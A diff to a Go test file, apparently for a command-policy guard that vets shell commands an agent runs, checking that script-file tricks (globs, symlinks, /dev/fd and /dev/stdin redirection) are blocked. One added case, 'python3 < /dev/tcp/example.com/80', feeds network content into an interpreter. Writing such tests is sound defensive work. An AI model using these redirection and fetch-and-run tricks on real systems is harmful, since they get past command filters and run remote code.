@@ -9,6 +9,7 @@ import (
 	"testing"
 
 	"github.com/guardhq/guard/internal/agent"
+	"github.com/guardhq/guard/internal/policy"
 	"github.com/guardhq/guard/internal/shell"
 	"github.com/guardhq/guard/internal/shell/word"
 )
@@ -67,7 +68,14 @@ func TestRunScriptFiles(t *testing.T) {
 	if err := os.Symlink(filepath.Join(proj, "leak.sh"), filepath.Join(proj, "link.sh")); err != nil {
 		t.Fatal(err)
 	}
-	p := realPolicy(t, "")
+	for _, sh := range []string{"/bin/bash", "/bin/zsh"} {
+		t.Setenv("SHELL", sh) // read when the policy loads, and by the hook
+		checkScriptFiles(t, realPolicy(t, ""), proj)
+	}
+}
+
+func checkScriptFiles(t *testing.T, p *policy.Policy, proj string) {
+	t.Helper()
 	for _, tc := range []struct {
 		cmd, rule, reason string // rule "" for allowed
 	}{
@@ -88,6 +96,9 @@ func TestRunScriptFiles(t *testing.T) {
 		{"bash le?k.sh", "blocked_path", "'le?k.sh'"},
 		{"bash [lw]*.sh", "unparsable_command", "cannot read"},
 		{"bash /dev/fd/3 3< leak.sh", "unparsable_command", "cannot read"},
+		{"python3 < /dev/tcp/example.com/80", "unparsable_command", "cannot read"},
+		{"bash /dev/stdin < leak.sh", "blocked_path", ""},
+		{"source /dev/nothing-here", "", ""},
 		{"bash dir", "", ""},
 	} {
 		rec, ok := checkRule(t, p, proj, tc.cmd, tc.rule, tc.reason)
